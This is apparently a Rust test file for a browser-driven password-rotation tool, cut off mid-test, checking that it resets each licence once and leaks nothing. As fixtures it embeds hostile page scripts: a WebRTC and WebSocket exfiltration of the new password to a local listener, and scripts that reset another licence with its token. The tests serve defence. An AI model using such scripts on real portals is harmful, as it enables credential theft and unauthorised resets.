//! Portals built in the other ways a browser handles ("As a browser shows
//! it" in the portal contract): links relative to a `<base href>`, the
//! confirmation as a dialog already in the detail page, the confirmation
//! loaded into a dialog. The unchanged `run` resets every licence exactly
//! once with the right password, and `check` walks them, on both markups
//! and when sessions expire.

use crate::common::*;
use std::collections::HashMap;
use std::path::PathBuf;

/// Runs check then run on a portal of `shape`; with `expiring`, sessions
/// end often, and a session that ends between a `Confirmer` and its result
/// page takes the password with it: that licence is reset again, and the
/// report counts both.
fn run_on(shape: &str, variant: &str, more: &[&str]) {
    let expiring = more.contains(&"--expire-after");
    let mut args = vec!["--shape", shape, "--variant", variant];
    args.extend_from_slice(more);
    let Setup {
        dir,
        sim,
        public,
        identity,
    } = Setup::new(&args);
    let input = dir.path().join("in.csv");
    std::fs::write(&input, "client_ref,licence\n4054,*\n4082,*\n").unwrap();
    let out = check_cmd(&sim, &input).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{shape} {variant}: {text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(sim.resets().is_empty(), "check confirmed");
    let output = dir.path().join("out.age");
    let report = dir.path().join("report.csv");
    let stderr = exits_with(
        run_cmd(&sim, &input, &output, &public)
            .args(["--yes", "--rate", "100", "--report"])
            .arg(&report),
        0,
    );
    let truth = sim.resets();
    let mut per_licence: HashMap<&str, usize> = HashMap::new();
    for t in &truth {
        *per_licence.entry(t.licence.as_str()).or_default() += 1;
    }
    assert_eq!(per_licence.len(), 16, "{shape} {variant}: {stderr}");
    if !expiring {
        assert!(
            per_licence.values().all(|&n| n == 1),
            "{shape} {variant}: a licence reset twice: {per_licence:?}"
        );
    }
    // The report counts every Confirmer the portal took.
    for row in parse_csv(&std::fs::read(&report).unwrap()) {
        assert_eq!(
            row["confirmations"],
            per_licence[row["licence"].as_str()].to_string(),
            "{shape} {variant}: {row:?}"
        );
    }
    let rows = decrypt(&identity, &output);
    let last = last_passwords(&truth);
    assert_eq!(rows.len(), 16);
    for row in &rows {
        assert_eq!(Some(&row["password"]), last.get(&row["licence"]), "{row:?}");
    }
}

#[test]
fn links_relative_to_a_base_href() {
    for variant in ["0", "1"] {
        run_on("base-href", variant, &[]);
    }
}

#[test]
fn a_confirmation_in_a_dialog_of_the_detail_page() {
    for variant in ["0", "1"] {
        run_on("dialog", variant, &[]);
    }
}

#[test]
fn a_confirmation_loaded_into_a_dialog() {
    for variant in ["0", "1"] {
        run_on("remote-dialog", variant, &[]);
    }
}

#[test]
fn every_shape_when_sessions_expire() {
    for shape in ["base-href", "dialog", "remote-dialog"] {
        run_on(shape, "1", &["--expire-after", "9"]);
    }
}

/// No browser runs whose profile was under `tmp`, and nothing is left there.
fn assert_nothing_left(tmp: &std::path::Path) {
    assert_eq!(browsers_running(tmp), 0, "a browser outlived the run");
    let left: Vec<PathBuf> = std::fs::read_dir(tmp)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert!(left.is_empty(), "left in TMPDIR: {left:?}");
}

/// Processes of a browser whose profile is under `tmp` (its folder is on
/// their command line).
fn browsers_running(tmp: &std::path::Path) -> usize {
    browser_command_lines(tmp).len()
}

/// The command lines (arguments joined by spaces) of those processes.
fn browser_command_lines(tmp: &std::path::Path) -> Vec<String> {
    browser_processes(tmp, "cmdline")
}

/// The environments (variables joined by spaces) of those processes.
fn browser_environments(tmp: &std::path::Path) -> Vec<String> {
    browser_processes(tmp, "environ")
}

/// What `/proc/PID/{what}` holds, for the processes whose command line
/// names `tmp`.
fn browser_processes(tmp: &std::path::Path, what: &str) -> Vec<String> {
    processes_naming(tmp)
        .into_iter()
        .filter_map(|(pid, _)| proc_text(&format!("/proc/{pid}/{what}")))
        .collect()
}

/// The processes whose command line names `tmp`: pid and command line.
fn processes_naming(tmp: &std::path::Path) -> Vec<(i32, String)> {
    let tmp = tmp.to_string_lossy().into_owned();
    std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| {
            let dir = e.ok()?.path();
            let pid = dir.file_name()?.to_str()?.parse().ok()?;
            let cmd = proc_text(&format!("/proc/{pid}/cmdline"))?;
            cmd.contains(&tmp).then_some((pid, cmd))
        })
        .collect()
}

/// A file of `/proc`, its NULs as spaces.
fn proc_text(path: &str) -> Option<String> {
    std::fs::read(path)
        .ok()
        .map(|b| String::from_utf8_lossy(&b).replace('\0', " "))
}

/// The browser's own process (its helpers carry a --type).
fn is_browser_main(command_line: &str) -> bool {
    command_line.contains("--user-data-dir") && !command_line.contains("--type=")
}

/// Runs `check` then `run` on a portal whose reset is driven by script,
/// with a TMPDIR of its own; fails if a browser outlived them or anything
/// is left in that TMPDIR.
fn scripted_run(more: &[&str], more_of_run: &[&str]) {
    let mut args = vec!["--shape", "scripted"];
    args.extend_from_slice(more);
    let Setup {
        dir,
        sim,
        public,
        identity,
    } = Setup::new(&args);
    let tmp = dir.path().join("tmp");
    std::fs::create_dir(&tmp).unwrap();
    let input = dir.path().join("in.csv");
    std::fs::write(&input, "client_ref,licence\n4054,*\n4082,*\n").unwrap();
    // Unchanged commands (no engine flag) find that the step needs a
    // script, and go on in the browser; `more` may name the engine.
    let out = check_cmd(&sim, &input)
        .args(more_of_run)
        .env("TMPDIR", &tmp)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let said = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{text}{said}");
    assert!(text.contains("runs a script of the page"), "{text}");
    assert!(said.contains("walked with the browser engine"), "{said}");
    assert!(sim.resets().is_empty(), "check confirmed");
    let output = dir.path().join("out.age");
    let report = dir.path().join("report.csv");
    let mut run = run_cmd(&sim, &input, &output, &public);
    run.args(["--yes", "--rate", "100", "--report"])
        .arg(&report)
        .args(more_of_run)
        // Answers lost: up to ten tries a licence (five lost in a row,
        // 0.3^5, came once in thirty runs of sixteen licences, and rightly
        // stopped the run at the default five).
        .args(["--max-resets", "10"])
        .env("TMPDIR", &tmp)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped());
    let served_before = sim.pages_served().len();
    let mut child = run.spawn().unwrap();
    // While it runs: the browser speaks DevTools over pipes, never a port
    // another local user could reach.
    // Nor does the portal password reach their environment.
    let mut seen = Vec::new();
    let mut environments = 0;
    let mut password_handed = false;
    while child.try_wait().unwrap().is_none() {
        seen.extend(browser_command_lines(&tmp));
        for env in browser_environments(&tmp) {
            environments += 1;
            password_handed |= env.contains(PASSWORD);
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert!(environments > 0);
    assert!(
        !password_handed,
        "the portal password in a browser's environment"
    );
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    // The browser's own process (its helpers carry a --type).
    let main: Vec<&String> = seen.iter().filter(|c| is_browser_main(c)).collect();
    assert!(!main.is_empty(), "no browser seen running: {seen:?}");
    for cmd in main {
        assert!(cmd.contains("--remote-debugging-pipe"), "{cmd}");
        assert!(!cmd.contains("--remote-debugging-port"), "{cmd}");
    }
    assert!(stderr.contains("in the browser"), "{stderr}");
    // Every request the portal got went through the run's throttle and is
    // counted: the browser re-sent none by itself, a Confirmer whose answer
    // was lost included (it did on a reused connection, below the Fetch
    // domain).
    let counted: usize = stderr
        .split_once("portal requests: ")
        .and_then(|(_, rest)| rest.split_once(' '))
        .map(|(n, _)| n.parse().unwrap())
        .expect(&stderr);
    assert_eq!(
        sim.pages_served().len() - served_before,
        counted,
        "{stderr}"
    );
    let reported = parse_csv(&std::fs::read(&report).unwrap());
    assert!(
        reported.iter().all(|r| r["engine"] == "browser"),
        "{reported:?}"
    );
    let truth = sim.resets();
    let mut per_licence: HashMap<&str, usize> = HashMap::new();
    for t in &truth {
        *per_licence.entry(t.licence.as_str()).or_default() += 1;
    }
    assert_eq!(per_licence.len(), 16, "{stderr}");
    let expiring = more.contains(&"--expire-after");
    let dropping = more.contains(&"--drop-rate");
    for row in reported {
        let commits = per_licence[row["licence"].as_str()];
        let counted: usize = row["confirmations"].parse().unwrap();
        if expiring {
            // A session that ends inside a scripted step may be counted as
            // a confirmation the portal did not take (left in the note of
            // issue 21); never one less than it took.
            assert!(counted >= commits, "{row:?}");
        } else {
            assert_eq!(counted, commits, "{row:?}");
        }
    }
    assert_eq!(assert_exact_passwords(&identity, &output, &truth).len(), 16);
    if !expiring && !dropping {
        assert!(per_licence.values().all(|&n| n == 1), "{per_licence:?}");
        // Each licence's requests in the report, the one its walk sent
        // before it moved to the browser included, add up to the reset
        // requests of the summary.
        let in_report: u64 = parse_csv(&std::fs::read(&report).unwrap())
            .iter()
            .map(|r| r["requests"].parse::<u64>().unwrap())
            .sum();
        let summed = stderr
            .split_once(", reset ")
            .and_then(|(_, rest)| rest.split_once(')'))
            .map(|(n, _)| n.parse::<u64>().unwrap());
        assert_eq!(Some(in_report), summed, "{stderr}");
    }
    assert_nothing_left(&tmp);
    assert_no_clear_password(&truth, &files_under(dir.path()), &sim.truth);
}

#[test]
fn a_reset_driven_by_script_runs_in_the_browser_and_leaves_nothing_behind() {
    if !have("chromium") {
        return;
    }
    scripted_run(&[], &[]);
}

#[test]
fn a_reset_driven_by_script_when_sessions_expire() {
    if !have("chromium") {
        return;
    }
    scripted_run(
        &["--variant", "1", "--expire-after", "9"],
        &["--engine", "browser"],
    );
}

/// Confirmer's answer lost (the connection closed after the portal took
/// it): the browser does not post it again by itself (no connection is
/// reused). The outcome is unknown; the licence is taken again, and the
/// report counts every Confirmer the portal took.
#[test]
fn a_confirmer_whose_answer_is_lost_in_the_browser_is_counted_and_reset_again() {
    if !have("chromium") {
        return;
    }
    scripted_run(&["--variant", "1", "--drop-rate", "0.3"], &[]);
    // A plain form sent by the browser: the same. Every answer is lost;
    // the password is read where the portal shows it again.
    let Setup {
        dir,
        sim,
        public,
        identity,
    } = Setup::new(&["--drop-rate", "1"]);
    let input = dir.path().join("in.csv");
    std::fs::write(&input, "client_ref,licence\n4054,FPC172910\n").unwrap();
    let output = dir.path().join("out.age");
    let report = dir.path().join("report.csv");
    exits_with(
        run_cmd(&sim, &input, &output, &public)
            .args(["--yes", "--rate", "100", "--engine", "browser", "--report"])
            .arg(&report),
        0,
    );
    let truth = sim.resets();
    let rows = parse_csv(&std::fs::read(&report).unwrap());
    assert_eq!(
        rows[0]["confirmations"],
        truth.len().to_string(),
        "{rows:?}"
    );
    let last = last_passwords(&truth);
    let decrypted = decrypt(&identity, &output);
    assert_eq!(decrypted[0]["password"], last["FPC172910"]);
}

/// The script of a harmless step (the reset button's, asking the number)
/// answered 503 every time: retried as any request, then that licence is
/// said to have failed because of the portal, not of a label; the others
/// are reset.
#[test]
fn a_script_s_request_that_keeps_failing_is_the_portal_s_fault_not_a_label_s() {
    if !have("chromium") {
        return;
    }
    let Setup {
        dir,
        sim,
        public,
        identity,
    } = Setup::new(&["--shape", "scripted", "--fail-page", "api-info:FPC172910"]);
    let input = dir.path().join("in.csv");
    std::fs::write(&input, "client_ref,licence\n4054,*\n").unwrap();
    let output = dir.path().join("out.age");
    let report = dir.path().join("report.csv");
    let said = exits_with(
        run_cmd(&sim, &input, &output, &public)
            .args(["--yes", "--rate", "100", "--report"])
            .arg(&report),
        1,
    );
    assert!(said.contains("because the portal failed"), "{said}");
    assert!(!said.contains("labels"), "{said}");
    let rows = parse_csv(&std::fs::read(&report).unwrap());
    let failed: Vec<_> = rows.iter().filter(|r| r["status"] == "failed").collect();
    assert_eq!(failed.len(), 1, "{rows:?}");
    assert_eq!(failed[0]["licence"], "FPC172910");
    assert!(failed[0]["detail"].contains("503"), "{failed:?}");
    assert!(
        sim.pages_served()
            .iter()
            .filter(|p| *p == "api-info")
            .count()
            > 2
    );
    let truth = sim.resets();
    assert!(truth.iter().all(|t| t.licence != "FPC172910"));
    assert_eq!(assert_exact_passwords(&identity, &output, &truth).len(), 7);
}

/// A press whose script waits a while before it asks the portal (an
/// animation; a loaded machine, where the browser tells of the request
/// late) is waited for: the dialog is read once filled, and Confirmer once
/// its request was answered. Before, the page looked settled at once: the
/// dialog was read empty (seen in CI), and a Confirmer that would still be
/// sent was taken for one that sent nothing.
#[test]
fn a_press_whose_script_asks_the_portal_late_is_waited_for() {
    if !have("chromium") {
        return;
    }
    let late = "const sent = window.fetch; window.fetch = (...a) => new Promise(r => setTimeout(r, 300)).then(() => sent(...a));";
    let Setup {
        dir,
        sim,
        public,
        identity,
    } = Setup::new(&["--shape", "scripted", "--hostile-page-script", late]);
    let input = dir.path().join("in.csv");
    std::fs::write(
        &input,
        "client_ref,licence\n4054,FPC172910\n4054,FPC172913\n",
    )
    .unwrap();
    let said = exits_with(&mut check_cmd(&sim, &input), 0);
    assert!(sim.resets().is_empty(), "{said}");
    let output = dir.path().join("out.age");
    let said = exits_with(
        run_cmd(&sim, &input, &output, &public).args(["--yes", "--rate", "100"]),
        0,
    );
    let truth = sim.resets();
    assert_eq!(truth.len(), 2, "{said}");
    assert_eq!(assert_exact_passwords(&identity, &output, &truth).len(), 2);
}

/// Dialogs of the page's own stop a page until answered. After Confirmer
/// (through the gate), "are you sure?" is answered yes and every licence is
/// reset. On the reset button too, the `confirm()` is answered yes and
/// every licence is reset; but a `confirm()` there that was itself the
/// portal's confirmation (the page resets once it is answered) has its
/// reset refused, nothing reset: only the gate lets a reset be confirmed.
/// (Before, a portal asking "are you sure?" on its reset button could not
/// be driven at all.)
#[test]
fn a_dialog_of_the_page_s_own_never_hangs_and_is_accepted_only_after_confirmer() {
    if !have("chromium") {
        return;
    }
    let Setup {
        dir,
        sim,
        public,
        identity,
    } = Setup::new(&["--shape", "scripted", "--shape", "ask-on-confirm"]);
    let input = dir.path().join("in.csv");
    std::fs::write(&input, "client_ref,licence\n4054,*\n").unwrap();
    let output = dir.path().join("out.age");
    exits_with_within(
        run_cmd(&sim, &input, &output, &public).args(["--yes", "--rate", "100"]),
        0,
        std::time::Duration::from_secs(120),
    );
    assert_eq!(sim.resets().len(), 8);
    assert_exact_passwords(&identity, &output, &sim.resets());

    let asking = Setup::new(&["--shape", "scripted", "--shape", "ask-on-reset"]);
    exits_with_within(
        &mut check_cmd(&asking.sim, &input),
        0,
        std::time::Duration::from_secs(120),
    );
    assert!(asking.sim.resets().is_empty());
    let output = dir.path().join("asked.age");
    exits_with_within(
        run_cmd(&asking.sim, &input, &output, &public).args(["--yes", "--rate", "100"]),
        0,
        std::time::Duration::from_secs(120),
    );
    assert_eq!(asking.sim.resets().len(), 8);
    assert_exact_passwords(&identity, &output, &asking.sim.resets());

    // The question is the confirmation: answered, the page resets at once.
    let resets_when_answered = r#"document.addEventListener('DOMContentLoaded', () => { const b = document.getElementById('reset-button'); if (!b) return; b.addEventListener('click', async (e) => { e.stopImmediatePropagation(); if (!confirm('Réinitialiser le mot de passe SIP ?')) return; const lic = location.pathname.split('/').pop(); const m = document.querySelector('meta[name="csrf-token"]').content; try { const d = await (await fetch('/api/licences/' + lic, {headers: {'Accept': 'application/json'}})).json(); await fetch('/api/licences/' + lic + '/reinitialisation', {method: 'POST', headers: {'X-CSRF-Token': m, 'Content-Type': 'application/x-www-form-urlencoded'}, body: 'token=' + encodeURIComponent(d.token)}); } catch (e) {} }, true); })"#;
    let at_once = Setup::new(&[
        "--shape",
        "scripted",
        "--hostile-page-script",
        resets_when_answered,
    ]);
    let said = exits_with_within(
        run_cmd(&at_once.sim, &input, &dir.path().join("no.age"), &public)
            .args(["--yes", "--rate", "100"]),
        2,
        std::time::Duration::from_secs(120),
    );
    assert!(said.contains("was answered yes"), "{said}");
    assert!(at_once.sim.resets().is_empty(), "{said}");
    assert!(
        !at_once
            .sim
            .pages_served()
            .iter()
            .any(|k| k == "api-confirm"),
        "{said}"
    );
}

/// A page whose script keeps asking (a poll gone wrong) would hold the
/// limiter, and every session with it, until the step's time is up, then be
/// taken for a portal that failed. Past what a step may ask, the rest is
/// refused: the run stops at once, nothing reset, saying what the page did;
/// what it counts is what the portal was sent.
#[test]
fn a_page_that_keeps_asking_is_stopped_not_waited_for() {
    if !have("chromium") {
        return;
    }
    let Setup {
        dir, sim, public, ..
    } = Setup::new(&[
        "--shape",
        "scripted",
        "--hostile-page-script",
        "setInterval(() => fetch(location.pathname + '?poll=' + Date.now()).catch(() => {}), 5)",
    ]);
    let input = dir.path().join("in.csv");
    std::fs::write(&input, "client_ref,licence\n4054,FPC172910\n").unwrap();
    let output = dir.path().join("out.age");
    let began = std::time::Instant::now();
    let out = run_cmd(&sim, &input, &output, &public)
        .args(["--yes", "--rate", "50", "--timeout", "60"])
        .args(["--engine", "browser", "--log-format", "json"])
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{said}");
    assert!(
        began.elapsed() < std::time::Duration::from_secs(30),
        "waited for the step's time: {said}"
    );
    assert!(
        said.contains("sent more than 60 requests in one step (the latest GET"),
        "{said}"
    );
    assert!(sim.resets().is_empty());
    let served = sim.pages_served().len() as u64;
    let summary: serde_json::Value = String::from_utf8_lossy(&out.stdout)
        .lines()
        .chain(said.lines())
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find(|v| v["event"] == "summary")
        .unwrap_or_else(|| panic!("no summary: {said}"));
    let counted = summary["requests"]["total"].as_u64().unwrap();
    assert!(served <= 70, "{served} requests served: {said}");
    // What was counted reached the portal, but for one the browser had
    // on its way as the run ended.
    assert!(
        served <= counted && counted <= served + 2,
        "{counted} counted, {served} served: {said}"
    );
}

/// A page's script that resets another licence than the one pressed for
/// (helper-19): in place of the Confirmer's own request (same press, another
/// licence's address, exit 0 and that licence's password filed before), or
/// beside the press of Réinitialiser (in `check` too). Refused before it
/// is sent, the run stops, and nothing is reset.
#[test]
fn a_page_script_that_resets_another_licence_resets_nothing() {
    if !have("chromium") {
        return;
    }
    // Takes FPC172933's token as the page loads, then sends the press's own
    // Confirmer there.
    let swap = "(function(){ var of = window.fetch.bind(window); var t = null; \
        if (location.pathname.indexOf('/licences/') != 0) return; \
        of('/api/licences/FPC172933', {credentials: 'same-origin', headers: {'Accept': 'application/json'}}) \
          .then(function(r){ return r.json(); }).then(function(d){ t = d.token; }); \
        window.fetch = function(u, o) { \
          if (typeof u === 'string' && u.indexOf('/reinitialisation') >= 0 && t) \
            return of('/api/licences/FPC172933/reinitialisation', Object.assign({}, o, {body: 'token=' + encodeURIComponent(t)})); \
          return of(u, o); }; })();";
    // Resets FPC172933 as Réinitialiser is pressed.
    let beside = "document.addEventListener('click', function(ev) { \
        if (location.pathname.indexOf('/licences/') != 0) return; \
        if (((ev.target && ev.target.textContent) || '').indexOf('Réinitialiser') < 0) return; \
        fetch('/api/licences/FPC172933', {credentials: 'same-origin', headers: {'Accept': 'application/json'}}) \
          .then(function(r){ return r.json(); }).then(function(d){ \
            var m = document.querySelector('meta[name=\"csrf-token\"]'); \
            return fetch('/api/licences/FPC172933/reinitialisation', {method: 'POST', credentials: 'same-origin', \
              headers: {'X-CSRF-Token': m ? m.getAttribute('content') : '', 'Content-Type': 'application/x-www-form-urlencoded'}, \
              body: 'token=' + encodeURIComponent(d.token)}); }).catch(function(){}); }, true);";
    for (script, command) in [(swap, "run"), (beside, "run"), (beside, "check")] {
        let Setup {
            dir, sim, public, ..
        } = Setup::new(&["--shape", "scripted", "--hostile-page-script", script]);
        let input = dir.path().join("in.csv");
        std::fs::write(&input, "client_ref,licence\n4054,FPC172908\n").unwrap();
        let output = dir.path().join("out.age");
        let mut cmd = if command == "run" {
            let mut run = run_cmd(&sim, &input, &output, &public);
            run.args(["--yes", "--rate", "50"]);
            run
        } else {
            check_cmd(&sim, &input)
        };
        let said = exits_with(cmd.args(["--engine", "browser"]), 2);
        assert!(
            said.contains("naming the licence FPC172933 while pressing for FPC172908: refused"),
            "{command}: {said}"
        );
        assert!(
            sim.resets().is_empty(),
            "{command}: {:?}\n{said}",
            sim.resets()
        );
        assert!(!output.exists(), "{said}");
    }
    // Once the password showed (helper-20): that licence's password is
    // kept, the request refused, and the run goes no further.
    let after = "new MutationObserver(function() { var p = document.getElementById('password'); \
        if (!p || !p.textContent || window.sent) return; window.sent = true; \
        var m = document.querySelector('meta[name=\"csrf-token\"]'); \
        fetch('/api/licences/FPC172933', {headers: {'Accept': 'application/json'}}) \
          .then(function(r){ return r.json(); }).then(function(d){ \
            return fetch('/api/licences/FPC172933/reinitialisation', {method: 'POST', \
              headers: {'X-CSRF-Token': m ? m.getAttribute('content') : '', 'Content-Type': 'application/x-www-form-urlencoded'}, \
              body: 'token=' + encodeURIComponent(d.token)}); }).catch(function(){}); \
      }).observe(document, {subtree: true, childList: true, characterData: true});";
    let Setup {
        dir,
        sim,
        public,
        identity,
    } = Setup::new(&["--shape", "scripted", "--hostile-page-script", after]);
    let input = dir.path().join("in.csv");
    std::fs::write(&input, "client_ref,licence\n4054,*\n").unwrap();
    let output = dir.path().join("out.age");
    let said = exits_with(
        run_cmd(&sim, &input, &output, &public)
            .args(["--yes", "--rate", "50", "--engine", "browser"]),
        3,
    );
    assert!(said.contains("naming the licence FPC172933"), "{said}");
    let truth = sim.resets();
    assert!(truth.iter().all(|t| t.licence != "FPC172933"), "{said}");
    assert_eq!(truth.len(), 1, "the canary only: {said}");
    // Its password is kept for the rotation's end (a stopped run's part).
    let part = dir.path().join("out.age.part1");
    assert_eq!(
        assert_exact_passwords(&identity, &part, &truth).len(),
        1,
        "{said}"
    );
}

/// A result page that shows the new password in words no label knows
/// (helper-19: the notification reworded by the page's script): the run
/// cannot read it and says so, without quoting the page's texts, which
/// held the password, in the log or the report.
#[test]
fn a_password_shown_in_other_words_is_never_quoted() {
    if !have("chromium") {
        return;
    }
    let reworded = "new MutationObserver(function() { var p = document.getElementById('password'); \
        if (p && p.textContent && !window.done) { window.done = true; \
          document.getElementById('notice').innerHTML = '<p>Nouveau mot de passe SIP (' + p.textContent + '):</p>'; } \
      }).observe(document, {subtree: true, childList: true, characterData: true});";
    let Setup {
        dir, sim, public, ..
    } = Setup::new(&["--shape", "scripted", "--hostile-page-script", reworded]);
    let input = dir.path().join("in.csv");
    std::fs::write(&input, "client_ref,licence\n4054,FPC172908\n").unwrap();
    let output = dir.path().join("out.age");
    let report = dir.path().join("report.csv");
    let out = run_cmd(&sim, &input, &output, &public)
        .args(["--yes", "--rate", "50", "--report"])
        .arg(&report)
        .env("SIP_ROTATE_LOG", "trace")
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(3), "{said}");
    assert!(said.contains("its texts are not quoted"), "{said}");
    let truth = sim.resets();
    assert_eq!(truth.len(), 1, "{said}");
    let mut seen = files_under(dir.path());
    seen.push((dir.path().join("stderr"), out.stderr.clone()));
    seen.push((dir.path().join("stdout"), out.stdout.clone()));
    assert_no_clear_password(&truth, &seen, &sim.truth);
}

/// A page whose icon is on another origin (a CDN): the icon is not needed
/// and never asked for; the run goes on (helper-19: it stopped every run
/// as "a page" elsewhere, and --allow-origin could not help).
#[test]
fn an_icon_on_another_origin_is_not_asked_for() {
    if !have("chromium") {
        return;
    }
    let icon = "var l = document.createElement('link'); l.rel = 'icon'; \
        l.href = 'http://127.0.0.1:9/icon.ico'; document.head.appendChild(l);";
    let Setup {
        dir,
        sim,
        public,
        identity,
    } = Setup::new(&["--shape", "scripted", "--hostile-page-script", icon]);
    let input = dir.path().join("in.csv");
    std::fs::write(&input, "client_ref,licence\n4054,FPC172908\n").unwrap();
    let output = dir.path().join("out.age");
    let said = exits_with(
        run_cmd(&sim, &input, &output, &public).args(["--yes", "--engine", "browser"]),
        0,
    );
    let truth = sim.resets();
    assert_eq!(
        assert_exact_passwords(&identity, &output, &truth).len(),
        1,
        "{said}"
    );
}

/// A detail page whose script takes the browser elsewhere as it loads: the
/// page read is not the one asked for, and no label fixes that. `check` and
/// `run` say where the page went by itself, never "set reset_button in the
/// labels file" (helper-14: that advice fixed nothing). Nothing is reset.
#[test]
fn a_page_that_goes_elsewhere_by_itself_is_no_label_s_fault() {
    if !have("chromium") {
        return;
    }
    let Setup {
        dir, sim, public, ..
    } = Setup::new(&[
        "--shape",
        "scripted",
        "--hostile-page-script",
        "document.addEventListener('DOMContentLoaded', () => { if (/Réinitialiser mot de passe SIP/.test(document.body.innerText)) location.replace(document.querySelector('a').href); })",
    ]);
    let input = dir.path().join("in.csv");
    std::fs::write(&input, "client_ref,licence\n4054,FPC172910\n").unwrap();
    let said = exits_with(check_cmd(&sim, &input).args(["--engine", "browser"]), 2);
    assert!(said.contains("went on by itself"), "{said}");
    assert!(said.contains("no label fixes that"), "{said}");
    assert!(!said.contains("in a labels file"), "{said}");
    let said = exits_with(
        run_cmd(&sim, &input, &dir.path().join("out.age"), &public)
            .args(["--yes", "--rate", "100", "--engine", "browser"]),
        2,
    );
    assert!(
        said.contains("FPC172910: detail page: no label 'Licence'")
            && said.contains("went on by itself"),
        "{said}"
    );
    assert!(!said.contains("labels file"), "{said}");
    assert!(sim.resets().is_empty());
}

/// A portal (or a CDN's script) that tries to send the page elsewhere with
/// what fetch and XHR are not: a WebSocket, a shared worker from a `data:`
/// address, a service worker, WebRTC, WebRTC from a popup. Nothing reaches
/// the other origin, and the run goes on. (A worker's fetch is paused as any other request:
/// refused, and the run stops, as for an XHR.)
#[test]
fn a_page_s_script_reaches_no_other_origin_by_sockets_or_workers() {
    if !have("chromium") {
        return;
    }
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let elsewhere = listener.local_addr().unwrap();
    let udp = std::net::UdpSocket::bind(elsewhere).unwrap();
    udp.set_nonblocking(true).unwrap();
    let script = format!(
        "var t = encodeURIComponent(document.title);\
         try {{ new WebSocket('ws://{elsewhere}/ws?' + t); }} catch (e) {{}}\
         try {{ new SharedWorker('data:text/javascript,fetch(\"http://{elsewhere}/shared\")'); }} catch (e) {{}}\
         try {{ navigator.serviceWorker.register('/sw.js'); }} catch (e) {{}}\
         try {{ var pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{elsewhere}'}}]}}); pc.createDataChannel('x'); pc.createOffer().then(function (o) {{ pc.setLocalDescription(o); }}); }} catch (e) {{}}"
    );
    // Through a popup opened on a click (the removal was in the session's
    // page only), WebRTC sends the new password to a UDP address.
    let popup = r#"
(function () {
  function pw() { var p = document.getElementById('password'); return p && p.textContent ? p.textContent : null; }
  document.addEventListener('click', function () { window.open('', 'x'); }, true);
  function leak() {
    var w = window.open('', 'x'); if (!w) return;
    var pc = new w.RTCPeerConnection({iceServers: []}); pc.createDataChannel('d');
    pc.createOffer().then(function (o) { return pc.setLocalDescription(o).then(function () {
      return pc.setRemoteDescription({type: 'answer', sdp: o.sdp.replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:PW' + pw())
        .replace(/a=ice-pwd:.*/g, 'a=ice-pwd:abcdefghijklmnopqrstuvwx').replace(/a=setup:actpass/g, 'a=setup:active')}); }); })
    .then(function () { return pc.addIceCandidate({candidate: 'candidate:1 1 udp 2122260223 ADDR PORT typ host', sdpMid: '0', sdpMLineIndex: 0}); });
  }
  var mo = new MutationObserver(function () { if (pw()) { mo.disconnect(); leak(); } });
  mo.observe(document.documentElement, {subtree: true, childList: true, characterData: true});
})();"#
        .replace("ADDR", &elsewhere.ip().to_string())
        .replace("PORT", &elsewhere.port().to_string());
    let script = format!("{script}{popup}");
    let Setup {
        dir,
        sim,
        public,
        identity,
    } = Setup::new(&["--shape", "scripted", "--hostile-page-script", &script]);
    let input = dir.path().join("in.csv");
    std::fs::write(&input, "client_ref,licence\n4054,*\n").unwrap();
    let output = dir.path().join("out.age");
    exits_with(
        run_cmd(&sim, &input, &output, &public)
            .args(["--yes", "--rate", "100", "--engine", "browser"]),
        0,
    );
    assert!(
        listener.accept().is_err(),
        "a connection reached the other origin"
    );
    let mut buf = [0u8; 512];
    let received = udp.recv(&mut buf);
    assert!(
        received.is_err(),
        "a datagram reached the other origin: {:?}",
        received.map(|n| String::from_utf8_lossy(&buf[..n]).into_owned())
    );
    assert_eq!(
        assert_exact_passwords(&identity, &output, &sim.resets()).len(),
        8
    );
}

/// A page that opens a window of the portal's at each press (a link with a
/// target, clicked by its script): the window's requests would pass beside
/// the throttle and the counts. None reaches the portal: what the portal
/// served is what the run counted.
#[test]
fn a_window_the_page_opens_sends_nothing_to_the_portal() {
    if !have("chromium") {
        return;
    }
    let script = "document.addEventListener('click', function () {\
                    var a = document.createElement('a');\
                    a.href = location.href + (location.search ? '&' : '?') + 'popup=1';\
                    a.target = '_blank'; a.click(); }, true);";
    let Setup {
        dir,
        sim,
        public,
        identity,
    } = Setup::new(&["--shape", "scripted", "--hostile-page-script", script]);
    let input = dir.path().join("in.csv");
    std::fs::write(&input, "client_ref,licence\n4054,*\n").unwrap();
    let output = dir.path().join("out.age");
    let said = exits_with(
        run_cmd(&sim, &input, &output, &public).args(["--yes", "--rate", "100"]),
        0,
    );
    assert_eq!(
        assert_exact_passwords(&identity, &output, &sim.resets()).len(),
        8
    );
    let counters = sim.stop();
    assert!(
        said.contains(&format!("portal requests: {} ", counters["requests.total"])),
        "the portal served {} requests: {said}",
        counters["requests.total"]
    );
}

/// A portal that answers 429 to more than six requests a second, the
/// page's script's requests included (one that then reloads the page into
/// the 429 page): the run pauses, loads the page again and presses again;
/// every licence is reset once with its password.
#[test]
fn a_scripted_portal_that_asks_to_slow_down_is_waited_for() {
    if !have("chromium") {
        return;
    }
    let Setup {
        dir,
        sim,
        public,
        identity,
    } = Setup::new(&["--shape", "scripted", "--rate-limit", "6"]);
    let input = dir.path().join("in.csv");
